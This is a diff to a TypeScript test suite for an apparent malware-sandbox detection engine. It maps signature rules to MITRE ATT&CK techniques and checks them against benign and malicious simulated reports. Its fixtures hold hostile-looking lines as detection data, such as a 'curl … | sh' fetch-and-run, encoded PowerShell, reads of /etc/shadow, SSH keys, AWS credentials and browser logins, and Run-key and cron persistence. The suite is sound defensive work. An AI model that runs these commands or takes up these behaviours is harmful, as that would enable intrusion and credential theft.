@@ -5,6 +5,7 @@ import { runSignatures, scoreOf, MAX_MARKS } from './engine'
 import { ATTACK } from './attack'
 import { RULES } from './rules/index'
 import type { SignatureRule } from './signature'
+import { corpusFixtures } from '../../../../test/benign-corpus'
 
 type Report = Record<string, unknown>
 
@@ -65,7 +66,7 @@ const FIRES: Record<string, (r: Report & { behavior: Report; network: Report }) 
   },
   deletes_self: (r) => { ((r.behavior.summary as Report).file_deleted as string[]).push('/tmp/invoice.sh') },
   yara_match: (r) => { ((r.dropped as Report[])[0] as Report).yara = [{ name: 'Mirai_Botnet', meta: { author: 'x' }, strings: [], offsets: {} }] },
-  suspicious_http: (r) => { (r.network.http as Report[]).push({ host: 'example.com', uri: '/a', method: 'GET', 'user-agent': 'python-requests/2.31' }) },
+  suspicious_http: (r) => { (r.network.http as Report[]).push({ host: 'example.com', uri: '/a', method: 'GET' }) },
   persistence_autorun: (r) => { ((r.behavior.summary as Report).file_created as string[]).push('/etc/init.d/kworker') },
   persistence_cron: (r) => { ((r.behavior.summary as Report).file_created as string[]).push('/var/spool/cron/crontabs/root') },
   persistence_systemd: (r) => { ((r.behavior.summary as Report).file_written as string[]).push('/etc/systemd/system/dbus-update.service') },
@@ -122,15 +123,160 @@ describe('signature rules', () => {
   }
 })
 
+/**
+ * MITRE ATT&CK Enterprise (https://attack.mitre.org/techniques/): the id and name of every technique
+ * Aviary's signatures may name, written out here by hand, not taken from attack.ts (which it checks).
+ */
+const ENTERPRISE: Readonly<Record<string, string>> = {
+  'T1003.002': 'Security Account Manager',
+  'T1003.004': 'LSA Secrets',
+  'T1003.008': '/etc/passwd and /etc/shadow',
+  T1027: 'Obfuscated Files or Information',
+  'T1027.002': 'Software Packing',
+  T1036: 'Masquerading',
+  'T1037.004': 'RC Scripts',
+  T1053: 'Scheduled Task/Job',
+  'T1053.003': 'Cron',
+  'T1053.005': 'Scheduled Task',
+  T1055: 'Process Injection',
+  T1059: 'Command and Scripting Interpreter',
+  'T1059.001': 'PowerShell',
+  'T1059.003': 'Windows Command Shell',
+  'T1059.004': 'Unix Shell',
+  'T1059.005': 'Visual Basic',
+  'T1059.007': 'JavaScript',
+  T1070: 'Indicator Removal',
+  'T1070.004': 'File Deletion',
+  T1071: 'Application Layer Protocol',
+  'T1071.001': 'Web Protocols',
+  T1105: 'Ingress Tool Transfer',
+  T1106: 'Native API',
+  T1112: 'Modify Registry',
+  T1204: 'User Execution',
+  'T1204.002': 'Malicious File',
+  'T1218.005': 'Mshta',
+  'T1218.011': 'Rundll32',
+  'T1497.001': 'System Checks',
+  T1539: 'Steal Web Session Cookie',
+  T1543: 'Create or Modify System Process',
+  'T1543.002': 'Systemd Service',
+  'T1543.003': 'Windows Service',
+  T1546: 'Event Triggered Execution',
+  'T1546.004': 'Unix Shell Configuration Modification',
+  'T1546.010': 'AppInit DLLs',
+  'T1546.012': 'Image File Execution Options Injection',
+  T1547: 'Boot or Logon Autostart Execution',
+  'T1547.001': 'Registry Run Keys / Startup Folder',
+  'T1547.004': 'Winlogon Helper DLL',
+  'T1547.013': 'XDG Autostart Entries',
+  'T1552.001': 'Credentials In Files',
+  'T1552.004': 'Private Keys',
+  'T1555.003': 'Credentials from Web Browsers',
+  T1568: 'Dynamic Resolution',
+  'T1574.006': 'Dynamic Linker Hijacking',
+  T1622: 'Debugger Evasion'
+}
+
+/**
+ * What each rule detects, and the techniques that fit it: the ids it may name (its `ttp` and the
+ * `techniques` its evidence adds), reviewed against ATT&CK's description of each. yara_match names
+ * none of its own: its ids are the ones the matched rules' meta names.
+ */
+const FITS: Readonly<Record<string, { detects: string; ids: readonly string[] }>> = {
+  drops_executable: { detects: 'an executable the run brought onto the disk', ids: ['T1105'] },
+  drops_and_runs_executable: { detects: 'a program the run wrote and then started through the process API', ids: ['T1105', 'T1106'] },
+  starts_shell: { detects: 'a command interpreter running the sample\'s commands: sh/bash, cmd.exe, PowerShell, the script hosts, mshta', ids: ['T1059', 'T1059.001', 'T1059.003', 'T1059.004', 'T1059.005', 'T1059.007', 'T1218.005'] },
+  contacts_bare_ip: { detects: 'talking to infrastructure by a hard-coded address', ids: ['T1071'] },
+  resolves_many_domains: { detects: 'many distinct names looked up, as domain generation does', ids: ['T1568'] },
+  deletes_self: { detects: 'the sample removing its own file', ids: ['T1070', 'T1070.004'] },
+  yara_match: { detects: 'a YARA rule matching', ids: [] },
+  suspicious_http: { detects: 'HTTP to a raw address or without a real user agent', ids: ['T1071.001'] },
+  persistence_autorun: { detects: 'Run keys and the Startup folder, Winlogon, services, IFEO debuggers, AppInit DLLs, scheduled tasks, XDG autostart, RC scripts; registry writes as such', ids: ['T1037.004', 'T1053.005', 'T1112', 'T1543.003', 'T1546.010', 'T1546.012', 'T1547.001', 'T1547.004', 'T1547.013'] },
+  packed_section: { detects: 'a packed or encrypted PE section', ids: ['T1027.002'] },
+  runs_from_temp: { detects: 'a program started from a temporary folder, through the process API', ids: ['T1106'] },
+  vm_detection_strings: { detects: 'checks for virtual-machine artefacts', ids: ['T1497.001'] },
+  process_injection: { detects: 'code written into another process and run there', ids: ['T1055'] },
+  persistence_cron: { detects: 'a cron job', ids: ['T1053.003'] },
+  persistence_systemd: { detects: 'a systemd unit', ids: ['T1543.002'] },
+  persistence_shell_rc: { detects: 'a shell start-up file changed', ids: ['T1546.004'] },
+  ld_preload: { detects: 'the dynamic linker made to load a library first', ids: ['T1574.006'] },
+  antidebug_ptrace: { detects: 'a debugger check by tracing oneself', ids: ['T1622'] },
+  reads_credentials: { detects: 'shadow hashes, private keys, credential files, browsers\' logins and cookies, the SAM and SECURITY hives', ids: ['T1003.002', 'T1003.004', 'T1003.008', 'T1539', 'T1552.001', 'T1552.004', 'T1555.003'] },
+  office_macro_autoexec: { detects: 'a document whose VBA runs when it is opened', ids: ['T1059.005', 'T1204.002'] },
+  lnk_starts_interpreter: { detects: 'a shortcut the user opens that starts an interpreter', ids: ['T1059', 'T1204.002'] }
+}
+
+const declared = (rule: SignatureRule): string[] => [...new Set([...rule.ttp, ...(rule.techniques ?? [])])].sort()
+
+/**
+ * Each rule's silent case from the benign corpus (test/benign-corpus.ts; the reports of its real runs
+ * in test/fixtures/benign-corpus/, what the rules read of them): the run that comes nearest to what
+ * the rule looks for. Every rule must also stay silent on every other run of the corpus.
+ */
+const SILENT: Readonly<Record<string, { run: string; near: string }>> = {
+  drops_executable: { run: 'cc', near: 'the linker writes a program' },
+  drops_and_runs_executable: { run: 'make', near: 'it writes files and runs programs (cc, the linker)' },
+  starts_shell: { run: 'tar', near: 'GNU tar starts /bin/sh -c gzip' },
+  contacts_bare_ip: { run: 'curl', near: 'it connects to an address' },
+  resolves_many_domains: { run: 'wget', near: 'it looks up a name' },
+  deletes_self: { run: 'gzip', near: 'gzip removes the file it compressed' },
+  yara_match: { run: 'installer', near: 'a PE and the files it drops are scanned' },
+  suspicious_http: { run: 'curl', near: 'curl sends its own user agent' },
+  persistence_autorun: { run: 'installer', near: 'an installer writes files into Program Files and its settings into the registry' },
+  packed_section: { run: 'installer', near: 'a PE with sections' },
+  runs_from_temp: { run: 'python', near: 'the sample runs from /tmp and starts a program' },
+  vm_detection_strings: { run: 'installer', near: 'the strings of a PE' },
+  process_injection: { run: 'installer', near: 'a Windows program' },
+  persistence_cron: { run: 'tar', near: 'it extracts files' },
+  persistence_systemd: { run: 'dpkg', near: 'it reads the package database, unit files\' names included' },
+  persistence_shell_rc: { run: 'ssh-keygen', near: 'it writes into the home folder' },
+  ld_preload: { run: 'python', near: 'pyenv\'s shims exec programs with a changed environment' },
+  antidebug_ptrace: { run: 'coreutils', near: 'ordinary programs under the analyzer\'s strace' },
+  reads_credentials: { run: 'ssh-keygen', near: 'it reads back the private key it made' },
+  office_macro_autoexec: { run: 'python', near: 'the corpus has no Office document: none of its runs may fire it' },
+  lnk_starts_interpreter: { run: 'installer', near: 'the corpus has no shortcut: none of its runs may fire it' }
+}
+
+describe('the benign corpus', () => {
+  const corpus = corpusFixtures()
+
+  it('holds a dozen runs or more, each rule\'s silent case among them', () => {
+    expect(corpus.size).toBeGreaterThanOrEqual(12)
+    expect(Object.keys(SILENT).sort()).toEqual(RULES.map((r) => r.name).sort())
+    for (const [rule, { run }] of Object.entries(SILENT)) expect(corpus.has(run), `${rule}: ${run}`).toBe(true)
+  })
+
+  for (const [name, report] of corpus) {
+    it(`${name}: no rule fires`, () => {
+      const res = runSignatures(report)
+      expect(res.signatures.map((s) => ({ name: s.name, marks: s.marks }))).toEqual([])
+      expect(res.score).toBe(0)
+    })
+  }
+})
+
 describe('ATT&CK ids', () => {
-  it('every rule names at least one technique, each known with a name and a sentence (yara_match takes its rules\' own)', () => {
-    for (const rule of RULES) {
-      if (rule.name !== 'yara_match') expect(rule.ttp.length, rule.name).toBeGreaterThan(0)
-      for (const id of rule.ttp) {
-        expect(ATTACK[id], `${rule.name}: ${id}`).toBeDefined()
-        expect(ATTACK[id]!.short.length).toBeGreaterThan(0)
-        expect(ATTACK[id]!.long.length).toBeGreaterThan(20)
-      }
+  it('every rule declares the techniques that fit what it detects, and only those', () => {
+    expect(Object.keys(FITS).sort()).toEqual(RULES.map((r) => r.name).sort())
+    for (const rule of RULES) expect({ rule: rule.name, ids: declared(rule) }).toEqual({ rule: rule.name, ids: [...FITS[rule.name]!.ids].sort() })
+  })
+
+  it('every id is an ATT&CK Enterprise technique, and attack.ts names it as ATT&CK does, with a sentence', () => {
+    for (const rule of RULES) for (const id of declared(rule)) expect(ENTERPRISE[id], `${rule.name}: ${id}`).toBeDefined()
+    for (const [id, t] of Object.entries(ATTACK)) {
+      expect({ id, name: t.short }).toEqual({ id, name: ENTERPRISE[id] })
+      expect(t.long.length, id).toBeGreaterThan(20)
+    }
+  })
+
+  it('a firing case names only techniques its rule declares, at least one (yara_match: its rules\')', () => {
+    for (const [name, change] of Object.entries(FIRES)) {
+      if (name === 'yara_match') continue
+      const r = clean() as Report & { behavior: Report; network: Report }
+      change(r)
+      const ids = Object.keys(fired(r, name)!.ttp)
+      expect(ids.length, name).toBeGreaterThan(0)
+      for (const id of ids) expect(FITS[name]!.ids, `${name}: ${id}`).toContain(id)
     }
   })
 
@@ -179,6 +325,70 @@ describe('rule details', () => {
     expect(fired(r, 'starts_shell')?.marks).toEqual([{ type: 'ioc', category: 'cmdline', ioc: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -enc AAAA', description: null }])
   })
 
+  it('starts_shell: the sample\'s own shells count; an installed program\'s own sh -c and programs written in shell do not', () => {
+    const withProcs = (procs: Report[], written: string[] = []): Report => {
+      const r = clean() as Report & { behavior: Report }
+      ;(r.behavior.processes as Report[]).push(...procs)
+      ;((r.behavior.summary as Report).file_written as string[]).push(...written)
+      return r
+    }
+    const p = (pid: number, ppid: number, name: string, path: string, cmd: string): Report => ({ pid, ppid, process_name: name, process_path: path, command_line: cmd })
+    // GNU tar -z, make's recipes, gunzip/zgrep and pyenv's shims (shell scripts, and their subshells).
+    expect(fired(withProcs([
+      p(110, 100, 'tar', '/usr/bin/tar', 'tar -czf /tmp/x.tgz -C /tmp src'), p(111, 110, 'sh', '/usr/bin/dash', '/bin/sh -c gzip'),
+      p(112, 100, 'make', '/usr/bin/make', 'make -C /tmp/b'), p(113, 112, 'sh', '/usr/bin/dash', '/bin/sh -c echo linking > build.log && cc -o prog main.o'),
+      p(114, 100, 'zgrep', '/usr/bin/dash', 'zgrep -c ID /tmp/f.gz'), p(115, 114, 'sh', '/usr/bin/dash', '/bin/sh /usr/bin/zgrep -c ID /tmp/f.gz'),
+      p(116, 100, 'bash', '/usr/bin/bash', 'bash /root/.pyenv/libexec/pyenv-version-name -f')
+    ]), 'starts_shell')).toBeUndefined()
+    // The sample handing commands through another program, and a script the run wrote.
+    const sig = fired(withProcs([
+      p(120, 100, 'timeout', '/usr/bin/timeout', "timeout 10 sh -c id > /tmp/id.txt"), p(121, 120, 'sh', '/usr/bin/dash', "sh -c id > /tmp/id.txt"),
+      p(122, 100, 'bash', '/usr/bin/bash', 'bash /tmp/.x/stage2.sh'),
+      p(123, 100, 'tar', '/usr/bin/tar', 'tar -xf /tmp/a.tar'), p(124, 123, 'sh', '/usr/bin/dash', 'sh -c curl -s http://x/y | sh')
+    ], ['/tmp/.x/stage2.sh']), 'starts_shell')
+    expect(sig?.marks).toEqual([
+      { type: 'generic', pid: 121, process_name: 'sh', command_line: 'sh -c id > /tmp/id.txt', why: 'commands handed over by timeout' },
+      { type: 'generic', pid: 122, process_name: 'bash', command_line: 'bash /tmp/.x/stage2.sh', why: 'runs /tmp/.x/stage2.sh, which the run wrote' }
+    ])
+    expect(Object.keys(sig!.ttp).sort()).toEqual(['T1059', 'T1059.004'])
+    // A shell the sample started runs commands of the sample's, and so does the shell that one starts.
+    const nested = fired(withProcs([p(130, 100, 'sh', '/usr/bin/dash', 'sh -c curl x | sh'), p(131, 130, 'sh', '/usr/bin/dash', 'sh')]), 'starts_shell')
+    expect(nested?.marks.map((m) => (m as { pid: number }).pid)).toEqual([130, 131])
+  })
+
+  it('starts_shell on Windows: cmd.exe named from its image fires as Windows Command Shell; the package\'s launcher does not', () => {
+    const r = clean() as Report & { behavior: Report }
+    r.target = { category: 'file', file: { name: 'dropper.exe' } }
+    ;(r.behavior.summary as Report).command_line = []
+    r.behavior.processes = [
+      { pid: 10, ppid: 1, process_name: 'dropper.exe', process_path: 'C:\\Users\\a\\AppData\\Local\\Temp\\dropper.exe', command_line: '"C:\\Users\\a\\AppData\\Local\\Temp\\dropper.exe"' },
+      { pid: 11, ppid: 10, process_name: 'cmd.exe', process_path: 'C:\\windows\\system32\\cmd.exe', command_line: 'cmd /c echo from cmd > C:\\users\\Public\\cmd.txt' }
+    ]
+    const sig = fired(r, 'starts_shell')
+    expect(sig?.marks).toEqual([{ type: 'generic', pid: 11, process_name: 'cmd.exe', command_line: 'cmd /c echo from cmd > C:\\users\\Public\\cmd.txt', why: 'started by the sample' }])
+    expect(Object.keys(sig!.ttp).sort()).toEqual(['T1059', 'T1059.003'])
+  })
+
+  it('drops_executable: a program a system linker wrote is a build, not a drop; one the sample wrote is', () => {
+    const r = clean() as Report & { behavior: Report }
+    r.behavior.processes = [
+      { pid: 100, ppid: 1, process_name: 'sh', process_path: '/usr/bin/dash', command_line: '/bin/sh /tmp/build.sh' },
+      { pid: 101, ppid: 100, process_name: 'cc', process_path: '/usr/bin/x86_64-linux-gnu-gcc-12', command_line: 'cc -o /tmp/b/hello /tmp/b/hello.c' },
+      { pid: 102, ppid: 101, process_name: 'collect2', process_path: '/usr/libexec/gcc/x86_64-linux-gnu/12/collect2', command_line: '/usr/libexec/gcc/x86_64-linux-gnu/12/collect2 -o /tmp/b/hello' },
+      { pid: 103, ppid: 102, process_name: 'ld', process_path: '/usr/bin/x86_64-linux-gnu-ld.bfd', command_line: '/usr/bin/ld -o /tmp/b/hello' }
+    ]
+    const elf = 'ELF 64-bit LSB pie executable, x86-64, version 1 (SYSV), dynamically linked'
+    r.dropped = [{ name: 'hello', filepath: '/tmp/b/hello', type: elf, pids: [103] }]
+    expect(fired(r, 'drops_executable')).toBeUndefined()
+    // The same file written by the sample's own process, or by an "ld" the run dropped itself.
+    ;(r.dropped as Report[])[0]!.pids = [100]
+    expect(fired(r, 'drops_executable')?.marks.map((m) => (m as { ioc: string }).ioc)).toEqual(['/tmp/b/hello'])
+    ;(r.behavior.processes as Report[])[3]!.process_path = '/tmp/ld'
+    ;((r.behavior.summary as Report).file_written as string[]).push('/tmp/ld')
+    ;(r.dropped as Report[])[0]!.pids = [103]
+    expect(fired(r, 'drops_executable')?.marks.map((m) => (m as { ioc: string }).ioc)).toEqual(['/tmp/b/hello'])
+  })
+
   it('contacts_bare_ip ignores resolved, private and DNS-server addresses, and marks raw-IP HTTP hosts', () => {
     const r = clean() as Report & { network: Report }
     ;(r.network.tcp as Report[]).push({ dst: '192.168.1.5', dport: 445 }, { dst: '100.64.0.1', dport: 80 }, { dst: '93.184.216.34', dport: 80 })
@@ -198,34 +408,22 @@ describe('rule details', () => {
     expect(fired(r, 'resolves_many_domains')?.markcount).toBe(11)
   })
 
-  it('suspicious_http: browser agents pass; empty, missing, bare Mozilla and tool agents fire', () => {
-    for (const ua of ['', 'Mozilla/4.0', 'curl/8.5.0', 'Wget/1.21', 'Go-http-client/1.1', null]) {
+  it('suspicious_http: a missing, empty or bare Mozilla agent fires; browsers\' and tools\' own agents (curl, wget, a library) do not', () => {
+    for (const ua of ['', '-', 'Mozilla/4.0', 'Mozilla/5.0', null]) {
       const r = clean() as Report & { network: Report }
       r.network.http = [{ host: 'example.com', uri: '/', method: 'GET', ...(ua === null ? {} : { 'user-agent': ua }) }]
       expect(fired(r, 'suspicious_http'), String(ua)).toBeDefined()
     }
-    const ok = clean() as Report & { network: Report }
-    ;(ok.network.http as Report[]).push({ host: 'example.com', uri: '/', 'user-agent': 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)' })
-    expect(fired(ok, 'suspicious_http')).toBeUndefined()
-  })
-
-  it('suspicious_http: a URL task\'s own fetch (wget, by the package) is not the sample\'s; what the page then asks with another agent is', () => {
-    const r = clean() as Report & { network: Report; target: Report }
-    r.target = { category: 'url', url: 'http://example.com' }
-    // As the network module writes them: uri is the full URL, path the request's path.
-    r.network.http = [
-      { host: 'example.com', port: 80, uri: 'http://example.com/', path: '/', method: 'GET', 'user-agent': 'Wget/1.21.3' },
-      { host: 'example.com', port: 80, uri: 'http://example.com/next', path: '/next', method: 'GET', 'user-agent': 'Wget/1.21.3' }
-    ]
-    expect(fired(r, 'suspicious_http')).toBeUndefined()
-    ;(r.network.http as Report[]).push({ host: 'some.domain', port: 80, uri: 'http://some.domain/payload', path: '/payload', method: 'GET', 'user-agent': 'python-requests/2.31' })
-    expect(fired(r, 'suspicious_http')?.marks).toEqual([
-      { type: 'ioc', category: 'user-agent', ioc: 'python-requests/2.31', description: 'unusual user agent in GET http://some.domain/payload' }
+    for (const ua of ['curl/8.5.0', 'Wget/1.21.3', 'Go-http-client/1.1', 'python-requests/2.31', 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)']) {
+      const ok = clean() as Report & { network: Report }
+      ;(ok.network.http as Report[]).push({ host: 'example.com', uri: '/', 'user-agent': ua })
+      expect(fired(ok, 'suspicious_http'), ua).toBeUndefined()
+    }
+    const none = clean() as Report & { network: Report }
+    none.network.http = [{ host: 'some.domain', port: 80, uri: 'http://some.domain/payload', path: '/payload', method: 'GET' }]
+    expect(fired(none, 'suspicious_http')?.marks).toEqual([
+      { type: 'ioc', category: 'user-agent', ioc: '', description: 'no user agent in GET http://some.domain/payload' }
     ])
-    // On a file task the same wget request is the sample's.
-    const f = clean() as Report & { network: Report }
-    f.network.http = [(r.network.http as Report[])[0]!]
-    expect(fired(f, 'suspicious_http')?.markcount).toBe(1)
   })
 
   it('suspicious_http marks a full-URL uri once, not as host + URL', () => {
@@ -266,6 +464,25 @@ describe('rule details', () => {
     expect(fired(r, 'persistence_cron')).toBeUndefined() // crontab -l only lists
   })
 
+  it('persistence_autorun: each place is its own technique, and only its own', () => {
+    const ttpOf = (change: (s: Report) => void): string[] => {
+      const r = clean() as Report & { behavior: Report }
+      change(r.behavior.summary as Report)
+      return Object.keys(fired(r, 'persistence_autorun')?.ttp ?? {}).sort()
+    }
+    const RUN = 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater'
+    // The issue's report: a Run key write was also tagged T1053 (Scheduled Task) and T1543 (System Process).
+    expect(ttpOf((s) => { s.regkey_written = [RUN] })).toEqual(['T1112', 'T1547.001'])
+    expect(ttpOf((s) => { s.regkey_written = ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell'] })).toEqual(['T1112', 'T1547.004'])
+    expect(ttpOf((s) => { s.regkey_written = ['HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\evil\\ImagePath'] })).toEqual(['T1112', 'T1543.003'])
+    expect(ttpOf((s) => { s.regkey_written = ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger'] })).toEqual(['T1112', 'T1546.012'])
+    expect(ttpOf((s) => { s.regkey_written = ['HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows\\AppInit_DLLs'] })).toEqual(['T1112', 'T1546.010'])
+    expect(ttpOf((s) => { s.command_line = ['schtasks /Create /SC ONLOGON /TN u /TR c:\\u.exe'] })).toEqual(['T1053.005'])
+    expect(ttpOf((s) => { s.command_line = ['sc create evil binPath= c:\\e.exe'] })).toEqual(['T1543.003'])
+    expect(ttpOf((s) => { (s.file_written as string[]).push('/home/user/.config/autostart/x.desktop') })).toEqual(['T1547.013'])
+    expect(ttpOf((s) => { (s.file_written as string[]).push('/etc/rc.local') })).toEqual(['T1037.004'])
+  })
+
   it('persistence_cron: cron files and crontab installing a file or stdin; listing, removing and reading are not', () => {
     const r = clean() as Report & { behavior: Report }
     const s = r.behavior.summary as Report
@@ -304,7 +521,18 @@ describe('rule details', () => {
     ;((r.behavior.summary as Report).file_read as string[]).push('/etc/shadow', '/root/.ssh/id_ed25519', '/home/user/.aws/credentials', 'C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data')
     const sig = fired(r, 'reads_credentials')!
     expect(sig.marks.map((m) => (m as { ioc: string }).ioc)).toEqual(['/etc/shadow', '/root/.ssh/id_ed25519', '/home/user/.aws/credentials', 'C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data'])
-    expect(Object.keys(sig.ttp).sort()).toEqual(['T1003.008', 'T1552.001'])
+    // Each kind of file its own technique: password hashes, a private key, a credentials file, a browser's logins.
+    expect(Object.keys(sig.ttp).sort()).toEqual(['T1003.008', 'T1552.001', 'T1552.004', 'T1555.003'])
+  })
+
+  it('reads_credentials: a key the run made itself and reads back (ssh-keygen) is no one else\'s credentials', () => {
+    const r = clean() as Report & { behavior: Report }
+    const s = r.behavior.summary as Report
+    ;(s.file_created as string[]).push('/tmp/h/.ssh/id_ed25519', '/tmp/h/.ssh/id_ed25519.pub')
+    ;(s.file_read as string[]).push('/tmp/h/.ssh/id_ed25519')
+    expect(fired(r, 'reads_credentials')).toBeUndefined()
+    ;(s.file_read as string[]).push('/root/.ssh/id_rsa')
+    expect(fired(r, 'reads_credentials')?.marks.map((m) => (m as { ioc: string }).ioc)).toEqual(['/root/.ssh/id_rsa'])
   })
 
   it('process_injection marks the write and the remote run as calls; writes into itself do not count', () => {
